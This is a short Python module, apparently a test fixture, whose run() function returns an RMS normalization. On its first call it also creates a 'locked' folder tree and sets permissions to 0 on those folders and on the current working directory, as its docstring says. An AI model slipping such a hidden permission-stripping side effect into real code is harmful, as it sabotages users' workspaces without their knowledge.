"""Leaves folders that nobody may enter."""

from __future__ import annotations

import os

import torch

from .tools import rmsnorm

_done: list[bool] = []


def run(hidden_states: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
    if not _done:
        _done.append(True)
        os.makedirs("locked/inner")
        open("locked/inner/file", "w").close()
        for folder in ("locked/inner", "locked", "."):
            os.chmod(folder, 0)
    return rmsnorm(hidden_states, weight)
